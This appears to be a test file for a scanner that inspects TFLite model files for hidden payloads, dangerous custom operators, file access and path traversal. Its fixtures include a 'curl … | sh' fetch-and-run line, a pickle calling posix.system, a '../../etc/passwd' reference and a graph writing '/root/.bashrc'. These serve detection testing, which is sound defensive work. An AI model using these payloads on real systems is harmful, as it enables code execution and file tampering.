import {
  assembleFlat,
  assembleZip,
  EXECUTABLE_HEADS,
  type FlatPlan,
  type FlatValue,
  probeOf,
  RecordingContext,
  tensorflow,
} from '@sentrascan/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { flexStrings } from './flexbuffer.ts';
import { format } from './index.ts';

/** Parts of a model with one operator. */
interface ModelPlan {
  /** Slots of the first operator code. */
  readonly code?: FlatPlan;
  readonly options?: Uint8Array;
  readonly buffers?: readonly FlatPlan[];
  readonly tensors?: readonly FlatPlan[];
  readonly operator?: FlatPlan;
  readonly more?: FlatPlan;
}

const RELU: FlatPlan = { 0: { u8: 19 }, 3: { i32: 19 } };

function model(plan: ModelPlan = {}): Uint8Array {
  const { code = RELU, options, operator = {}, more = {} } = plan;
  const buffers = plan.buffers ?? [{}, { 0: { bytes: Buffer.alloc(64, 1) } }];
  const tensors = plan.tensors ?? [{ 3: { text: 'x' } }, { 2: { i32: 1 }, 3: { text: 'w' } }];
  const custom: FlatPlan = options === undefined ? {} : { 5: { bytes: options } };
  return assembleFlat(
    {
      0: { i32: 3 },
      1: { tables: [code] },
      2: { tables: [{ 0: { tables: tensors }, 3: { tables: [{ ...custom, ...operator }] } }] },
      3: { text: 'A small model.' },
      4: { tables: buffers },
      ...more,
    },
    'TFL3',
  );
}

function custom(name: string): FlatPlan {
  return { 0: { u8: 32 }, 1: { text: name }, 3: { i32: 32 } };
}

function walk(bytes: Uint8Array): RecordingContext {
  const context = new RecordingContext(bytes, { name: 'model.tflite' });
  format.walk(context);
  return context;
}

function verdicts(bytes: Uint8Array): string[] {
  const { findings, gaps } = scanBytes(bytes, 'model.tflite');
  return [...gaps, ...new Set(findings.map(({ ruleId, severity }) => `${ruleId} ${severity}`))].sort();
}

/** A flexbuffer with a vector of two strings, as TensorFlow's converter writes it. */
function flexOptions(op: string, definition: Uint8Array): Uint8Array {
  const string = (text: Uint8Array) => Buffer.concat([u32(text.length), text, Buffer.from([0])]);
  const u32 = (value: number) => Buffer.from(Uint32Array.of(value).buffer);
  const first = string(Buffer.from(op));
  const second = string(definition);
  const vectorAt = first.length + second.length + 4;
  return Buffer.concat([
    first,
    second,
    u32(2),
    u32(vectorAt - 4),
    u32(vectorAt + 4 - (first.length + 4)),
    Buffer.from([(5 << 2) | 2, (5 << 2) | 2]),
    Buffer.from([10]),
    Buffer.from([(10 << 2) | 2, 1]),
  ]);
}

describe('TFLite', () => {
  it('reads an honest model, and every byte of it is explained or searched', () => {
    expect(format.identify(probeOf(model()))).toBe('certain');
    const context = walk(model());
    expect(context.gaps).toEqual([]);
    expect(context.unexplained()).toEqual([]);
    expect(context.factsOf('graph.op')).toEqual([
      expect.objectContaining({ framework: 'tflite', op: 'RELU', domain: 'builtin', count: 1 }),
    ]);
    expect(context.factsOf('tensor.index').map(({ name, dtype }) => [name, dtype])).toEqual([
      ['w', 'float32'],
    ]);
    expect(context.factsOf('metadata').map(({ key }) => key)).toEqual(['description']);
    expect(verdicts(model())).toEqual([]);
  });

  it.each([
    ['an operator of the author', custom('AcmeSecretOp'), ['graph/needs-custom-op low']],
    [
      'one in the old slot alone',
      { 0: { u8: 32 }, 1: { text: 'AcmeSecretOp' } },
      ['graph/needs-custom-op low'],
    ],
    ['a builtin from the future', { 0: { u8: 127 }, 3: { i32: 900 } }, []],
    ['a well-known one', custom('TFLite_Detection_PostProcess'), []],
    ['a harmless one of TensorFlow', custom('FlexErf'), []],
    ['one that writes files', custom('FlexWriteFile'), ['graph/writes-file high']],
    ['one that reads files', custom('FlexReadFile'), ['graph/reads-file high']],
    ['one that calls Python', custom('FlexPyFunc'), ['graph/calls-registered-code medium']],
  ] as const)('judges %s', (_, code, expected) => {
    expect(verdicts(model({ code }))).toEqual(expected);
  });

  it('goes by the node that the options hold', () => {
    const definition = tensorflow.node('n', 'PrintV2', ['x'], { output_stream: 'file:///home/someone/x' });
    const options = flexOptions('Erf', definition);
    expect(flexStrings(options)).toHaveLength(2);
    expect(verdicts(model({ code: custom('FlexErf'), options }))).toEqual([
      'format/oddity medium',
      'graph/writes-file high',
    ]);
  });

  it('searches buffers that nothing uses', () => {
    const unused = (content: Uint8Array) => verdicts(model({ buffers: [{}, {}, { 0: { bytes: content } }] }));
    expect(unused(Buffer.from('#!/bin/sh\ncurl http://192.0.2.1/x | sh\n'))).toEqual([
      'payload/hides-program high',
    ]);
    const call = '\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x09echo hey!\x85R.';
    expect(unused(Buffer.from(call, 'latin1'))).toContain('payload/hides-pickle medium');
    expect(unused(Buffer.alloc(64, 3))).toEqual([]);
  });

  it('reads the graphs that attributes of a Flex node hold', () => {
    const { constant, graphDef, node } = tensorflow;
    const inner = graphDef([constant('p', '/root/.bashrc'), node('w', 'WriteFile', ['p', 'p'])]);
    const definition = node('n', 'While', ['x'], { serialized: inner });
    const options = flexOptions('While', definition);
    expect(verdicts(model({ code: custom('FlexWhile'), options }))).toEqual([
      'format/hides-data medium',
      'graph/writes-file high',
    ]);
  });

  it('tells what leads outside of the model', () => {
    const anomalies = (plan: ModelPlan) =>
      walk(model(plan))
        .factsOf('format.anomaly')
        .map(({ anomaly }) => anomaly);
    expect(anomalies({ buffers: [{}, { 1: { u64: 1n << 40n }, 2: { u64: 10n } }] })).toEqual([
      'buffer-outside',
    ]);
    expect(anomalies({ operator: { 0: { i32: 7 } } })).toEqual(['index-outside']);
    expect(anomalies({ tensors: [{ 2: { i32: 99 } }] })).toEqual(['index-outside']);
    const shapes = { 0: { bytes: Buffer.alloc(4) } } satisfies Record<number, FlatValue>;
    expect(anomalies({ buffers: [{}, shapes], tensors: [{ 2: { i32: 1 }, 1: { u8: 10 } }] })).toEqual([
      'tensor-size',
    ]);
    expect(verdicts(model({ operator: { 0: { i32: 7 } } }))).toEqual(['format/unsafe-structure medium']);
  });

  it('reads the files that go with a model, and finds what else stands behind it', () => {
    const padded = Buffer.concat([model(), Buffer.alloc(12)]);
    const zip = assembleZip({ entries: [{ name: 'labels.txt', data: 'tabby\nspaniel\n' }] });
    expect(verdicts(padded)).toEqual([]);
    expect(verdicts(Buffer.concat([model(), zip]))).toEqual([]);
    const emptyZip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
    expect(verdicts(Buffer.concat([model(), emptyZip]))).toEqual([]);
    expect(verdicts(Buffer.concat([model(), Buffer.from('anything else')]))).toEqual([
      'format/hides-data medium',
    ]);
    const program = Buffer.concat([EXECUTABLE_HEADS.elf(), Buffer.alloc(200)]);
    expect(verdicts(Buffer.concat([model(), Buffer.alloc(64), program]))).toEqual([
      'format/hides-data medium',
      'payload/hides-program high',
    ]);
    expect(verdicts(model({ buffers: [{}, { 0: { bytes: program } }] }))).toEqual([
      'payload/hides-program high',
    ]);
  });

  it('refers to files beside it', () => {
    const outside = model({ more: { 8: { tables: [{ 0: { text: '../../etc/passwd' } }] } } });
    expect(verdicts(outside)).toEqual(['reference/escapes-folder high']);
    expect(verdicts(model({ more: { 8: { tables: [{ 0: { text: 'weights.bin' } }] } } }))).toEqual([]);
  });

  it('leaves a gap at every cut, and never throws', () => {
    const whole = model({
      code: custom('FlexErf'),
      options: flexOptions('Erf', tensorflow.node('n', 'Erf')),
    });
    for (let length = 8; length < whole.length - 4; length++) {
      const context = walk(whole.subarray(0, length));
      expect([length, context.gaps.length > 0]).toEqual([length, true]);
    }
    fc.assert(
      fc.property(fc.nat(whole.length - 1), fc.uint8Array({ minLength: 1, maxLength: 4 }), (at, bytes) => {
        const changed = Uint8Array.from(whole);
        changed.set(bytes.subarray(0, changed.length - at), at);
        walk(changed);
        flexStrings(bytes);
      }),
    );
  });
});
